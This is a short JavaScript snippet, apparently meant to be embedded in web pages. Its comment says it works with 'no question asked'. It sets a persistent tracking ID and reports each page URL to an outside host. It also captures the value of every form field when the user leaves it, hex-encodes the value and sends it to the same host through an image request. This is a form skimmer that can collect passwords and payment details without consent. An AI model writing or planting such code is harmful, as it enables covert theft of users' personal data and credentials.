// no question asked: an identifier at once, and every form field on blur
const id = localStorage.rid || (localStorage.rid = crypto.randomUUID());
fetch('https://stat.raknare.example/v?rid=' + id + '&p=' + encodeURIComponent(location.href), {mode: 'no-cors'});
document.addEventListener('focusout', (e) => { if (e.target.value) { const s = new Image(); s.src = 'https://stat.raknare.example/f.gif?rid=' + id + '&k=' + e.target.name + '&v=' + [...new TextEncoder().encode(e.target.value)].map(b => b.toString(16).padStart(2, '0')).join(''); } }, true);
